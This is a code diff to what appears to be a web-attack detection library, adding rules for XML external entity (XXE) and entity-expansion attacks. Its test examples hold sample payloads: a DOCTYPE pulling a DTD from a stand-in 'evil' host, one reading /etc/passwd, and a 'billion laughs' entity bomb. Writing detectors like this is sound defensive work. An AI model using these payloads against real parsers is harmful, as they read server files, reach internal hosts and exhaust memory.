@@ -1,10 +1,10 @@
 """Web-attack signals aimed at the server's other interpreters.
 
-Template engines and expression languages (SSTI), LDAP filters, XPath queries, HTTP headers
-(CRLF injection) and object deserialisers each read a request field as code of their own
-language. A value written in one of those languages, with the moves that break out of its
-intended place, is a probe or an exploit; the same language used as intended (a template that
-prints a name, a filter that looks a user up) is not.
+Template engines and expression languages (SSTI), LDAP filters, XPath queries, XML parsers'
+document types, HTTP headers (CRLF injection) and object deserialisers each read a request field
+as code of their own language. A value written in one of those languages, with the moves that
+break out of its intended place, is a probe or an exploit; the same language used as intended (a
+template that prints a name, a filter that looks a user up) is not.
 """
 
 from __future__ import annotations
@@ -17,6 +17,7 @@ LDAP = "webattack.ldap"
 XPATH = "webattack.xpath"
 HEADER_INJECTION = "webattack.header_injection"
 OBJECT_INJECTION = "webattack.object_injection"
+XXE = "webattack.xxe"
 
 _S = Severity.HIGH  # the detector sets each finding's severity from the score
 
@@ -392,6 +393,40 @@ OBJECT_PROTOTYPE_POLLUTION = Rule(
     ),
 )
 
+XXE_EXTERNAL_DTD = Rule(
+    id="xxe.external_dtd",
+    code=XXE,
+    # A document type fetched by URL from wherever the payload says: the parser reaches out
+    # (SSRF) and the fetched DTD defines the entities that carry files back. Published document
+    # types are named with PUBLIC and a catalogue identifier; a SYSTEM URL is the attack's form.
+    pattern=r"(?i)<!DOCTYPE\s+[\w:.-]+\s+SYSTEM\s+[\"'](?:https?|ftp|file|jar|netdoc|gopher|php|expect|data):",
+    severity=_S,
+    score=0.75,
+    message="XML document type loaded from a URL (external DTD)",
+    examples=(
+        '<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://x.example/evil.dtd"><data>&e;</data>',
+        "<!DOCTYPE r SYSTEM 'file:///etc/passwd'>",
+    ),
+    counterexamples=(
+        '<!DOCTYPE note SYSTEM "Note.dtd">',
+        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
+        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
+        "<!DOCTYPE html>",
+    ),
+)
+
+XXE_ENTITY_EXPANSION = Rule(
+    id="xxe.entity_expansion",
+    code=XXE,
+    # "Billion laughs": each entity repeats the one before, so a few lines expand to gigabytes.
+    pattern=r"(?i)<!ENTITY\s+[\w.-]+\s+[\"']\s*(?:&[\w.-]+;\s*){3,}",
+    severity=_S,
+    score=0.75,
+    message="XML entity defined as repeats of another (entity expansion)",
+    examples=('<!DOCTYPE lolz [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;">]><lolz>&b;</lolz>',),
+    counterexamples=('<!ENTITY copy "&#169;">', '<!ENTITY company "Acme &amp; Sons">'),
+)
+
 RULES: tuple[Rule, ...] = (
     SSTI_ARITHMETIC_PROBE,
     SSTI_OBJECT_WALK,
@@ -404,6 +439,8 @@ RULES: tuple[Rule, ...] = (
     HEADER_CRLF,
     OBJECT_SERIALISED,
     OBJECT_PROTOTYPE_POLLUTION,
+    XXE_EXTERNAL_DTD,
+    XXE_ENTITY_EXPANSION,
 )
 
 FAMILY_MESSAGES = {
@@ -412,4 +449,5 @@ FAMILY_MESSAGES = {
     XPATH: "XPath injection",
     HEADER_INJECTION: "HTTP header injection (CRLF)",
     OBJECT_INJECTION: "object injection: a serialised object or a prototype-polluting key",
+    XXE: "XML external entity or entity expansion (XXE)",
 }
